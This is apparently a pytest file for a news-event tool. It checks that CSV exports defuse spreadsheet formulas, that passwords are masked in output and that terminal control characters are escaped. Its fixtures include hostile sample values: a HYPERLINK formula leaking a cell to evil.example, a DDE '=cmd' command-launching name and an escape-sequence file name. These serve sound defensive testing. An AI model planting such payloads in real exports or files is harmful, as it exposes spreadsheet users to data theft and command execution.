"""Nothing leaks and nothing runs: the database password is never printed, no CSV cell is a
spreadsheet formula, and text from inputs reaches a terminal with its control characters
escaped."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
import uvicorn
from fastapi.testclient import TestClient
from typer.testing import CliRunner

import diplowatch
import diplowatch.web
from diplowatch.cli import app
from diplowatch.present.export import neutralised
from diplowatch.store import Store
from diplowatch.web import WebSettings, create_app
from outlets import day_of, page_and_article, ties_event

HOSTILE_SENTENCE = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
URL = "https://example.org/2024/08/06/niger-ukraine"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_could_start_a_formula_is_quoted(start: str) -> None:
    assert neutralised(f"{start}1+2") == f"'{start}1+2"


@pytest.mark.parametrize("value", ["Kyiv", "", " =1", -4.0, 3, None, date(2024, 8, 6)])
def test_other_cells_are_left_as_they_are(value: Any) -> None:
    assert neutralised(value) == value


@pytest.fixture
def hostile_store(tmp_path: Path) -> Store:
    """A store whose one page is named like a formula and whose events' sentences start like
    formulas."""
    with Store(f"sqlite:///{tmp_path / 'store.db'}") as store:
        page, article = page_and_article(URL, "Niger cut ties with Ukraine.", date(2024, 8, 6))
        page, article = replace(page, name="=cmd|'/c calc'!A0"), replace(article, page="=x")
        first = ties_event(URL, URL, HOSTILE_SENTENCE, day_of("on Monday", date(2024, 8, 5)))
        second = replace(
            ties_event(URL, URL, "-2+3 said the junta.", None),
            sentence_index=1,
            evidence="@SUM(A1:A9)",
        )
        store.add(page, article, [first, second])
    return store


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _no_formula(cells: list[str]) -> None:
    assert HOSTILE_SENTENCE not in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [cell for cell in cells if cell.startswith("-") and not _is_number(cell)]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_the_api_csv_has_no_formula(hostile_store: Store) -> None:
    with TestClient(create_app(WebSettings(hostile_store.url))) as client:
        answer = client.get("/api/events.csv")
    assert answer.status_code == 200
    cells = _cells(answer.text)
    _no_formula(cells)
    assert "'" + HOSTILE_SENTENCE in cells and "'@SUM(A1:A9)" in cells
    # Numbers stay numbers: the Goldstein score of the events is still -4.0.
    assert "-4.0" in cells


def test_the_exported_csv_has_no_formula(hostile_store: Store, tmp_path: Path) -> None:
    out = tmp_path / "out"
    result = CliRunner().invoke(app, ["export", "--db", hostile_store.url, "--out", str(out)])
    assert result.exit_code == 0, result.output
    cells = _cells((out / "events.csv").read_text("utf-8"))
    _no_formula(cells)
    assert "'" + HOSTILE_SENTENCE in cells and "'-2+3 said the junta." in cells


def test_serve_prints_the_database_url_without_its_password(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    started: list[object] = []
    monkeypatch.setattr(diplowatch.web, "create_app", lambda settings: settings)
    monkeypatch.setattr(diplowatch.web.app, "settled", lambda application: application)
    monkeypatch.setattr(uvicorn, "run", lambda application, **_options: started.append(application))
    url = "postgresql://watcher:s3cret-Pass@db.example:5432/diplowatch"
    result = CliRunner().invoke(app, ["serve", "--db", url, "--workers", "1"])
    assert result.exit_code == 0, result.output
    assert started
    assert "s3cret" not in result.output
    assert "postgresql+psycopg://watcher:***@db.example:5432/diplowatch" in result.output


def test_a_file_name_with_controls_is_printed_escaped(tmp_path: Path) -> None:
    name = "a\x1b[2J\n0 new, 0 unchanged, 0 failed\rb.txt"
    (tmp_path / name).write_bytes(b"")
    db = f"sqlite:///{tmp_path / 'store.db'}"
    result = CliRunner().invoke(app, ["ingest", str(tmp_path), "--db", db, "--no-events"])
    assert result.exit_code == 1
    lines = [line for line in result.stderr.splitlines() if line]
    assert "\x1b" not in result.stderr and "\r" not in result.stderr
    assert lines == [
        f"error: {tmp_path}/a\\x1b[2J\\n0 new, 0 unchanged, 0 failed\\rb.txt: empty file",
        "0 new, 0 unchanged, 1 failed",
    ]


def test_a_new_sqlite_store_and_its_journal_are_private(tmp_path: Path) -> None:
    path = tmp_path / "new" / "store.db"
    with Store(f"sqlite:///{path}") as store:
        page, article = page_and_article(URL, "Niger cut ties with Ukraine.", date(2024, 8, 6))
        store.add(page, article)
        with store.engine.connect():
            files = sorted(path.parent.iterdir())
            modes = {file.name: file.stat().st_mode & 0o777 for file in files}
    assert "store.db-wal" in modes
    assert modes == dict.fromkeys(modes, 0o600)


def test_an_existing_sqlite_file_keeps_its_permissions(tmp_path: Path) -> None:
    path = tmp_path / "shared.db"
    path.touch(mode=0o640)
    path.chmod(0o640)
    with Store(f"sqlite:///{path}"):
        pass
    assert path.stat().st_mode & 0o777 == 0o640


@pytest.mark.parametrize("form", ["csv", "parquet", "jsonl"])
def test_exports_load_with_their_types(tmp_path: Path, form: str) -> None:
    """What ``diplowatch export`` writes reads back with its columns' types: codes as text,
    dates as dates, numbers as numbers, and the page's site and address filled."""
    with Store(f"sqlite:///{tmp_path / 'store.db'}") as store:
        page, article = page_and_article(URL, "Niger cut ties with Ukraine.", date(2024, 8, 6))
        first = ties_event(URL, URL, "Niger cut ties with Ukraine.", None)
        second = replace(first, id="second", sentence_index=1)
        store.add(page, article, [first, second])
    out = tmp_path / "out"
    result = CliRunner().invoke(
        app, ["export", "--db", store.url, "--out", str(out), "--format", form]
    )
    assert result.exit_code == 0, result.output
    events = diplowatch.read_table(out / f"events.{form}")
    assert pd.api.types.is_string_dtype(events["event_code"])
    assert set(events["event_code"]) == {"161"}
    assert pd.api.types.is_float_dtype(events["goldstein_scale"])
    assert list(events["publication_date"]) == [date(2024, 8, 6)] * 2
    assert set(events["source_url"]) == {URL} and set(events["source_name"]) == {"example.org"}
    for table in ("stories", "positions"):
        assert isinstance(diplowatch.read_table(out / f"{table}.{form}"), pd.DataFrame)
